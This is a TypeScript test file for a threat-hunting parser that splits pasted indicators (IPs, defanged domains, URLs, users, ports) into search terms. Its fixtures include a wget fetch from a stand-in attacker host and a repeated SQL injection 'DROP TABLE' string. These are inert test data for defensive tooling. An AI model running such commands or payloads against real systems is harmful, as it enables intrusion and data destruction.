import fc from "fast-check";
import {describe, expect, it} from "vitest";
import {splitTerms} from "../../../src/engine/hunt/split-terms.js";
import {defaults} from "../../../src/engine/hunt/term.js";

/** Any UTF-16 at all, lone surrogates included. */
const anyText = fc.array(fc.nat(0xffff), {maxLength: 80}).map(codes => String.fromCharCode(...codes));
const read = (text: string) => splitTerms(text).terms.map(({type, value}) => `${type} ${value}`);

describe("what stands in the box", () => {
  it("is several terms where all of a line are indicators", () => {
    expect(read("192.0.2.1, 192.0.2.0/24;evil[.]example\thxxp://evil.example/a,b user:root 22")).toEqual([
      "address 192.0.2.1",
      "network 192.0.2.0/24",
      "domain evil.example",
      "url evil.example/a,b",
      "user root",
      "port 22"
    ]);
  });

  it("is one term per line where one of its words is none", () => {
    expect(read("wget http://evil.example/x\nlogin from 192.0.2.1, again")).toEqual([
      "command wget http://evil.example/x",
      "text login from 192.0.2.1, again"
    ]);
  });

  it("is several terms where the others are accounts of these data", () => {
    const isUser = (name: string) => name === "root" || name === "login";
    const types = (text: string) => splitTerms(text, isUser).terms.map(({type}) => type);
    expect(types("192.0.2.1 root")).toEqual(["address", "user"]);
    expect(types("login root")).toEqual(["text"]);
    expect(types("192.0.2.1 somebody")).toEqual(["text"]);
  });

  it("is hunted for once when it stands there twice", () => {
    expect(read("192.0.2.1 192[.]0[.]2[.]1\n192.0.2.1")).toEqual(["address 192.0.2.1"]);
  });

  it("is cut after the most terms, and says so", () => {
    const {terms, problems} = splitTerms(Array.from({length: 25}, (_, i) => `192.0.2.${i}`).join(" "));
    expect(terms).toHaveLength(defaults.terms);
    expect(problems).toEqual([expect.stringContaining("5 more are left out")]);
  });

  it("is refused where it is a megabyte, with its length", () => {
    const {terms, problems} = splitTerms("a'; DROP TABLE events; -- ".repeat(40_000));
    expect(terms).toEqual([]);
    expect(problems[0]).toMatch(/^A text of 1,0\d\d,\d\d\d characters is too long/);
  });

  it("never makes it throw", () => {
    fc.assert(
      fc.property(anyText, text => {
        expect(splitTerms(text).terms.length).toBeLessThanOrEqual(defaults.terms);
      }),
      {numRuns: 300}
    );
  });
});
